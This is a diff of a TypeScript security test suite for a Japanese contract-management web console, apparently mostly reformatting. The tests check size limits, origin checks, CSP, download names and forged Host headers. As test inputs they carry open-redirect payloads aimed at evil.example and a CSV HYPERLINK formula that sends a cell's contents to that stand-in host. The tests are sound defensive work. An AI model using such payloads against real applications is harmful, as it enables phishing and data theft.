@@ -37,7 +37,8 @@ function write(sql: string, ...params: unknown[]): void {
 
 async function signIn(baseUrl: string, email = "admin@demo.example"): Promise<string> {
   const response = await fetch(`${baseUrl}/login`, {
-    method: "POST", redirect: "manual",
+    method: "POST",
+    redirect: "manual",
     headers: { Origin: baseUrl, "Content-Type": "application/x-www-form-urlencoded" },
     body: new URLSearchParams({ email, password: DEMO_PASSWORD }),
   });
@@ -45,27 +46,60 @@ async function signIn(baseUrl: string, email = "admin@demo.example"): Promise<st
   return response.headers.get("set-cookie")!.split(";")[0];
 }
 
-interface RawResponse { status: number; headers: Record<string, string | string[] | undefined>; body: string; ms: number }
+interface RawResponse {
+  status: number;
+  headers: Record<string, string | string[] | undefined>;
+  body: string;
+  ms: number;
+}
 
 /**
  * An HTTP request with exactly the given headers (fetch would not send a forged Host), whose body
  * is written in `chunk`s until `total` bytes or until the server answers, whichever comes first.
  */
-function raw(baseUrl: string, options: { method?: string; path: string; headers?: Record<string, string>; body?: string; chunk?: Buffer; total?: number }): Promise<RawResponse> {
+function raw(
+  baseUrl: string,
+  options: {
+    method?: string;
+    path: string;
+    headers?: Record<string, string>;
+    body?: string;
+    chunk?: Buffer;
+    total?: number;
+  },
+): Promise<RawResponse> {
   const url = new URL(options.path, baseUrl);
   const started = Date.now();
   return new Promise((resolve, reject) => {
     let answered = false;
-    const req = httpRequest({ host: url.hostname, port: url.port, path: url.pathname + url.search, method: options.method ?? "POST", headers: options.headers }, (res) => {
-      answered = true;
-      let body = "";
-      res.setEncoding("utf8");
-      res.on("data", (c: string) => (body += c));
-      res.on("end", () => resolve({ status: res.statusCode!, headers: res.headers, body, ms: Date.now() - started }));
-      res.on("error", reject);
-    });
+    const req = httpRequest(
+      {
+        host: url.hostname,
+        port: url.port,
+        path: url.pathname + url.search,
+        method: options.method ?? "POST",
+        headers: options.headers,
+      },
+      (res) => {
+        answered = true;
+        let body = "";
+        res.setEncoding("utf8");
+        res.on("data", (c: string) => (body += c));
+        res.on("end", () =>
+          resolve({
+            status: res.statusCode!,
+            headers: res.headers,
+            body,
+            ms: Date.now() - started,
+          }),
+        );
+        res.on("error", reject);
+      },
+    );
     // The server closing the connection mid-upload is expected once it has answered.
-    req.on("error", (error) => { if (!answered) reject(error); });
+    req.on("error", (error) => {
+      if (!answered) reject(error);
+    });
     if (options.chunk && options.total) {
       // One chunk at a time, as a slow uplink sends it: the answer is read before the next write.
       let sent = 0;
@@ -89,8 +123,10 @@ describe("request size (item 1)", () => {
     const before = { attempts: count("login_attempts"), audit: count("audit_log") };
     const total = 100 * 1024 * 1024;
     const response = await raw(server.url, {
-      path: "/login", headers: { ...form, Origin: server.url, "Content-Length": String(total) },
-      chunk: Buffer.from(`email=${"a".repeat(64 * 1024)}`), total,
+      path: "/login",
+      headers: { ...form, Origin: server.url, "Content-Length": String(total) },
+      chunk: Buffer.from(`email=${"a".repeat(64 * 1024)}`),
+      total,
     });
     expect(response.status).toBe(413);
     expect(response.body).toBe("送信されたデータが大きすぎます（上限 64KB）。");
@@ -101,8 +137,10 @@ describe("request size (item 1)", () => {
   it("counts a chunked body without Content-Length and stops it at the first byte over 64 KB", async () => {
     const before = count("login_attempts");
     const response = await raw(server.url, {
-      path: "/login", headers: { ...form, Origin: server.url, "Transfer-Encoding": "chunked" },
-      chunk: Buffer.from("a".repeat(16 * 1024)), total: 8 * 1024 * 1024,
+      path: "/login",
+      headers: { ...form, Origin: server.url, "Transfer-Encoding": "chunked" },
+      chunk: Buffer.from("a".repeat(16 * 1024)),
+      total: 8 * 1024 * 1024,
     });
     expect(response.status).toBe(413);
     expect(response.body).toBe("送信されたデータが大きすぎます（上限 64KB）。");
@@ -111,8 +149,12 @@ describe("request size (item 1)", () => {
 
   it("still takes an ordinary chunked form", async () => {
     const response = await raw(server.url, {
-      path: "/login", headers: { ...form, Origin: server.url, "Transfer-Encoding": "chunked" },
-      body: new URLSearchParams({ email: "admin@demo.example", password: DEMO_PASSWORD }).toString(),
+      path: "/login",
+      headers: { ...form, Origin: server.url, "Transfer-Encoding": "chunked" },
+      body: new URLSearchParams({
+        email: "admin@demo.example",
+        password: DEMO_PASSWORD,
+      }).toString(),
     });
     expect(response.status).toBe(302);
     expect(response.headers.location).toBe("/home");
@@ -125,7 +167,10 @@ describe("request size (item 1)", () => {
     await page.getByLabel("メールアドレス").fill(`${"a".repeat(250)}@x.jp`);
     await page.getByLabel("パスワード").fill("whatever-password");
     await page.getByRole("button", { name: "ログイン", exact: true }).click();
-    await page.locator(".field-error").filter({ hasText: "メールアドレスは254文字以内で入力してください" }).waitFor();
+    await page
+      .locator(".field-error")
+      .filter({ hasText: "メールアドレスは254文字以内で入力してください" })
+      .waitFor();
     await page.close();
     expect({ attempts: count("login_attempts"), audit: count("audit_log") }).toEqual(before);
   });
@@ -134,37 +179,71 @@ describe("request size (item 1)", () => {
 describe("text limits of the forms (item 1)", () => {
   it("refuses an over-long contact name and operator note with Japanese messages, writing nothing", async () => {
     const db = new SQLite(server.databasePath, { readonly: true });
-    const contractId = (db.prepare("select id from contracts where ref = 'K-1001'").get() as { id: number }).id;
+    const contractId = (
+      db.prepare("select id from contracts where ref = 'K-1001'").get() as { id: number }
+    ).id;
     db.close();
-    const before = { changes: count("contract_changes"), suspensions: count("suspensions"), audit: count("audit_log") };
+    const before = {
+      changes: count("contract_changes"),
+      suspensions: count("suspensions"),
+      audit: count("audit_log"),
+    };
 
     const customer = await signIn(server.url, "customer@demo.example");
     const change = await fetch(`${server.url}/contracts/${contractId}/changes`, {
-      method: "POST", redirect: "manual", headers: { ...form, Origin: server.url, Cookie: customer },
-      body: new URLSearchParams({ intent: "request", kind: "contact", name: "名".repeat(201), address: "大阪府大阪市港区築港2-1-10",
-        phone: "06-6571-0001", email: "it@minato.example", effectiveDate: "2026-12-01" }),
+      method: "POST",
+      redirect: "manual",
+      headers: { ...form, Origin: server.url, Cookie: customer },
+      body: new URLSearchParams({
+        intent: "request",
+        kind: "contact",
+        name: "名".repeat(201),
+        address: "大阪府大阪市港区築港2-1-10",
+        phone: "06-6571-0001",
+        email: "it@minato.example",
+        effectiveDate: "2026-12-01",
+      }),
     });
     expect(change.status).toBe(400);
     expect(await change.text()).toContain("名義は200文字以内で入力してください");
 
     const operator = await signIn(server.url, "operator@demo.example");
     const suspend = await fetch(`${server.url}/contracts/${contractId}/admin`, {
-      method: "POST", redirect: "manual", headers: { ...form, Origin: server.url, Cookie: operator },
-      body: new URLSearchParams({ intent: "suspend", reason: "non_payment", note: "メ".repeat(2001), startsOn: "2026-11-23", endsOn: "" }),
+      method: "POST",
+      redirect: "manual",
+      headers: { ...form, Origin: server.url, Cookie: operator },
+      body: new URLSearchParams({
+        intent: "suspend",
+        reason: "non_payment",
+        note: "メ".repeat(2001),
+        startsOn: "2026-11-23",
+        endsOn: "",
+      }),
     });
     expect(suspend.status).toBe(400);
     expect(await suspend.text()).toContain("メモは2,000文字以内で入力してください");
     // Two logins are audited; nothing else is written.
-    expect({ changes: count("contract_changes"), suspensions: count("suspensions"), audit: count("audit_log") })
-      .toEqual({ ...before, audit: before.audit + 2 });
+    expect({
+      changes: count("contract_changes"),
+      suspensions: count("suspensions"),
+      audit: count("audit_log"),
+    }).toEqual({ ...before, audit: before.audit + 2 });
   });
 });
 
 describe("redirect after login (item 3)", () => {
-  for (const target of ["%2F%09%2Fevil.example%2Fphish", "%2F.%2F%5Cevil.example%2Fphish", "%2F%0A%2Fx", "%2F%0D%0A%2Fx", "%2F%E3%80%80%2Fx"]) {
+  for (const target of [
+    "%2F%09%2Fevil.example%2Fphish",
+    "%2F.%2F%5Cevil.example%2Fphish",
+    "%2F%0A%2Fx",
+    "%2F%0D%0A%2Fx",
+    "%2F%E3%80%80%2Fx",
+  ]) {
     it(`stays on the console for redirectTo=${target}`, async () => {
       const response = await fetch(`${server.url}/login`, {
-        method: "POST", redirect: "manual", headers: { ...form, Origin: server.url },
+        method: "POST",
+        redirect: "manual",
+        headers: { ...form, Origin: server.url },
         body: `email=admin%40demo.example&password=${encodeURIComponent(DEMO_PASSWORD)}&redirectTo=${target}`,
       });
       expect(response.status).toBe(302);
@@ -179,20 +258,40 @@ describe("origin of POSTs (item 5)", () => {
   it("refuses a signed-in POST that names no origin, and one from another site", async () => {
     const cookie = await signIn(server.url);
     const before = count("audit_log");
-    const bare = await fetch(`${server.url}/logout`, { method: "POST", redirect: "manual", headers: { ...form, Cookie: cookie }, body: "" });
+    const bare = await fetch(`${server.url}/logout`, {
+      method: "POST",
+      redirect: "manual",
+      headers: { ...form, Cookie: cookie },
+      body: "",
+    });
     expect(bare.status).toBe(403);
-    expect(await bare.text()).toBe("送信元を確認できないため、受け付けられません。ページを開き直してから送信してください。");
-    const foreign = await fetch(`${server.url}/logout`, { method: "POST", redirect: "manual", headers: { ...form, Cookie: cookie, Origin: "http://evil.example" }, body: "" });
+    expect(await bare.text()).toBe(
+      "送信元を確認できないため、受け付けられません。ページを開き直してから送信してください。",
+    );
+    const foreign = await fetch(`${server.url}/logout`, {
+      method: "POST",
+      redirect: "manual",
+      headers: { ...form, Cookie: cookie, Origin: "http://evil.example" },
+      body: "",
+    });
     expect(foreign.status).toBe(403);
     expect(count("audit_log")).toBe(before);
     // The same POST from the console's own page goes through.
-    const own = await fetch(`${server.url}/logout`, { method: "POST", redirect: "manual", headers: { ...form, Cookie: cookie, Origin: server.url }, body: "" });
+    const own = await fetch(`${server.url}/logout`, {
+      method: "POST",
+      redirect: "manual",
+      headers: { ...form, Cookie: cookie, Origin: server.url },
+      body: "",
+    });
     expect(own.status).toBe(302);
   });
 
   it("lets a POST without a session cookie reach the app (the login form of a privacy-minded browser)", async () => {
     const response = await fetch(`${server.url}/login`, {
-      method: "POST", redirect: "manual", headers: form, body: new URLSearchParams({ email: "admin@demo.example", password: DEMO_PASSWORD }),
+      method: "POST",
+      redirect: "manual",
+      headers: form,
+      body: new URLSearchParams({ email: "admin@demo.example", password: DEMO_PASSWORD }),
     });
     expect(response.status).toBe(302);
   });
@@ -202,11 +301,15 @@ describe("headers (item 6)", () => {
   it("sends a strict CSP whose nonce is on every script, and the pages still hydrate and navigate", async () => {
     const page = await browser.newPage();
     const problems: string[] = [];
-    page.on("console", (m) => { if (m.type() === "error") problems.push(m.text()); });
+    page.on("console", (m) => {
+      if (m.type() === "error") problems.push(m.text());
+    });
     page.on("pageerror", (e) => problems.push(e.message));
     const response = await page.goto(`${server.url}/login`);
     const headers = response!.headers();
-    const nonce = /script-src 'self' 'nonce-([A-Za-z0-9+/=]{24})'/.exec(headers["content-security-policy"])?.[1];
+    const nonce = /script-src 'self' 'nonce-([A-Za-z0-9+/=]{24})'/.exec(
+      headers["content-security-policy"],
+    )?.[1];
     expect(nonce).toBeDefined();
     expect(headers["content-security-policy"]).toBe(
       `default-src 'self'; script-src 'self' 'nonce-${nonce}'; object-src 'none'; frame-ancestors 'none'; base-uri 'self'; form-action 'self'; img-src 'self' data:; style-src 'self' 'unsafe-inline'`,
@@ -226,10 +329,16 @@ describe("headers (item 6)", () => {
     await page.getByRole("link", { name: "契約", exact: true }).first().click();
     await page.waitForURL(`${server.url}/contracts`);
     await page.getByRole("heading", { level: 1 }).waitFor();
-    expect(await page.evaluate(() => typeof (window as unknown as { __remixContext?: unknown }).__remixContext)).toBe("object");
+    expect(
+      await page.evaluate(
+        () => typeof (window as unknown as { __remixContext?: unknown }).__remixContext,
+      ),
+    ).toBe("object");
     expect(problems).toEqual([]);
 
-    const asset = /<script[^>]+src="(\/build\/[^"]+\.js)"/.exec(html)?.[1] ?? /href="(\/build\/[^"]+\.js)"/.exec(html)?.[1];
+    const asset =
+      /<script[^>]+src="(\/build\/[^"]+\.js)"/.exec(html)?.[1] ??
+      /href="(\/build\/[^"]+\.js)"/.exec(html)?.[1];
     expect(asset).toBeDefined();
     const built = await fetch(`${server.url}${asset}`);
     expect(built.status).toBe(200);
@@ -259,7 +368,12 @@ describe("CSV formulas (item 4)", () => {
     expect(row).toMatch(/^K-1001,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""x""\)",/);
     expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
     // The amounts stay numbers.
-    expect(row.split(",").slice(-5).some((cell) => /^\d+$/.test(cell))).toBe(true);
+    expect(
+      row
+        .split(",")
+        .slice(-5)
+        .some((cell) => /^\d+$/.test(cell)),
+    ).toBe(true);
     // Issue 17 item 5: the Excel download says the status in Japanese.
     expect(csv.split("\r\n")[0]).toContain("状態");
     expect(row.split(",")).toContain("利用中");
@@ -272,14 +386,24 @@ describe("download names (item 8)", () => {
   it("keeps a quote in a contract ref out of the report's Content-Disposition", async () => {
     const db = new SQLite(server.databasePath);
     db.pragma("busy_timeout = 5000");
-    const contractId = (db.prepare("select id from contracts where ref = 'K-1001'").get() as { id: number }).id;
+    const contractId = (
+      db.prepare("select id from contracts where ref = 'K-1001'").get() as { id: number }
+    ).id;
     db.prepare("update contracts set ref = ? where id = ?").run('K-"1001', contractId);
-    const reportId = Number(db.prepare("insert into threat_reports (contract_id, period_month, kind, pdf, created_at) values (?, '2026-10', 'on_demand', ?, ?)")
-      .run(contractId, Buffer.from("%PDF-1.4\n%%EOF\n"), "2026-11-22T01:00:00.000Z").lastInsertRowid);
+    const reportId = Number(
+      db
+        .prepare(
+          "insert into threat_reports (contract_id, period_month, kind, pdf, created_at) values (?, '2026-10', 'on_demand', ?, ?)",
+        )
+        .run(contractId, Buffer.from("%PDF-1.4\n%%EOF\n"), "2026-11-22T01:00:00.000Z")
+        .lastInsertRowid,
+    );
     db.close();
     try {
       const cookie = await signIn(server.url);
-      const response = await fetch(`${server.url}/reports/${reportId}/pdf`, { headers: { Cookie: cookie } });
+      const response = await fetch(`${server.url}/reports/${reportId}/pdf`, {
+        headers: { Cookie: cookie },
+      });
       expect(response.status).toBe(200);
       expect(response.headers.get("content-disposition")).toBe(
         "attachment; filename=\"_______K-_1001_2026-10.pdf\"; filename*=UTF-8''%E8%84%85%E5%A8%81%E3%83%AC%E3%83%9D%E3%83%BC%E3%83%88_K-%221001_2026-10.pdf",
@@ -294,7 +418,9 @@ describe("links in mails (item 7)", () => {
   it("builds the invitation link from the configured address, not from a forged Host", async () => {
     const cookie = await signIn(server.url);
     const db = new SQLite(server.databasePath, { readonly: true });
-    const customerId = (db.prepare("select id from customers where ref = 'C1'").get() as { id: number }).id;
+    const customerId = (
+      db.prepare("select id from customers where ref = 'C1'").get() as { id: number }
+    ).id;
     db.close();
     const to = "forged-host@minato.example";
     const response = await raw(server.url, {
@@ -304,17 +430,28 @@ describe("links in mails (item 7)", () => {
     });
     expect(response.status).toBe(302);
     const check = new SQLite(server.databasePath, { readonly: true });
-    const mail = check.prepare("select body_text from outbox where to_address = ?").get(to) as { body_text: string };
+    const mail = check.prepare("select body_text from outbox where to_address = ?").get(to) as {
+      body_text: string;
+    };
     check.close();
     expect(mail.body_text).toContain(`${server.url}/invitation/`);
     expect(mail.body_text).not.toContain("evil.example");
   });
 
   it("refuses to start off loopback without CONSOLE_URL, and with a bad TRUST_PROXY", () => {
-    const run = (env: Record<string, string>) => spawnSync("node_modules/.bin/tsx", ["scripts/start.ts"], {
-      env: { ...process.env, PORT: "0", DATABASE_URL: "file:/nonexistent/never-opened.db", CONSOLE_URL: "", TRUST_PROXY: "", ...env },
-      encoding: "utf8", timeout: 30_000,
-    });
+    const run = (env: Record<string, string>) =>
+      spawnSync("node_modules/.bin/tsx", ["scripts/start.ts"], {
+        env: {
+          ...process.env,
+          PORT: "0",
+          DATABASE_URL: "file:/nonexistent/never-opened.db",
+          CONSOLE_URL: "",
+          TRUST_PROXY: "",
+          ...env,
+        },
+        encoding: "utf8",
+        timeout: 30_000,
+      });
     const open = run({ HOST: "0.0.0.0" });
     expect(open.status).toBe(1);
     expect(open.stderr).toMatch(/^CONSOLE_URL: HOST=0\.0\.0\.0 で起動するには/);
@@ -327,7 +464,11 @@ describe("links in mails (item 7)", () => {
 describe("behind a TLS proxy", () => {
   let proxied: ConsoleServer;
   beforeAll(async () => {
-    proxied = await startConsole({ APP_NOW: "2026-11-22T10:00:00+09:00", CONSOLE_URL: "https://console.example.jp", TRUST_PROXY: "1" });
+    proxied = await startConsole({
+      APP_NOW: "2026-11-22T10:00:00+09:00",
+      CONSOLE_URL: "https://console.example.jp",
+      TRUST_PROXY: "1",
+    });
   });
   afterAll(() => proxied?.stop());
 
@@ -335,27 +476,40 @@ describe("behind a TLS proxy", () => {
     const login = await raw(proxied.url, {
       path: "/login",
       headers: { ...form, Origin: proxied.url, "X-Forwarded-For": "198.51.100.1, 203.0.113.50" },
-      body: new URLSearchParams({ email: "admin@demo.example", password: DEMO_PASSWORD }).toString(),
+      body: new URLSearchParams({
+        email: "admin@demo.example",
+        password: DEMO_PASSWORD,
+      }).toString(),
     });
     expect(login.status).toBe(302);
     expect(login.headers["strict-transport-security"]).toBe("max-age=31536000; includeSubDomains");
     const db = new SQLite(proxied.databasePath, { readonly: true });
-    const audit = db.prepare("select ip from audit_log where action = 'login' order by id desc").get() as { ip: string };
-    const customerId = (db.prepare("select id from customers where ref = 'C1'").get() as { id: number }).id;
+    const audit = db
+      .prepare("select ip from audit_log where action = 'login' order by id desc")
+      .get() as { ip: string };
+    const customerId = (
+      db.prepare("select id from customers where ref = 'C1'").get() as { id: number }
+    ).id;
     db.close();
     expect(audit.ip).toBe("203.0.113.50");
 
     const cookie = String(login.headers["set-cookie"]).split(";")[0];
     const to = "proxied@minato.example";
     const invite = await fetch(`${proxied.url}/customers/${customerId}`, {
-      method: "POST", redirect: "manual", headers: { ...form, Origin: proxied.url, Cookie: cookie },
+      method: "POST",
+      redirect: "manual",
+      headers: { ...form, Origin: proxied.url, Cookie: cookie },
       body: new URLSearchParams({ displayName: "プロキシ 試験", email: to }),
     });
     expect(invite.status).toBe(302);
     const check = new SQLite(proxied.databasePath, { readonly: true });
-    const mail = check.prepare("select body_text from outbox where to_address = ?").get(to) as { body_text: string };
+    const mail = check.prepare("select body_text from outbox where to_address = ?").get(to) as {
+      body_text: string;
+    };
     check.close();
-    expect(mail.body_text).toMatch(/^https:\/\/console\.example\.jp\/invitation\/[A-Za-z0-9_-]{43}$/m);
+    expect(mail.body_text).toMatch(
+      /^https:\/\/console\.example\.jp\/invitation\/[A-Za-z0-9_-]{43}$/m,
+    );
     expect(mail.body_text).not.toContain(proxied.url);
   });
 });
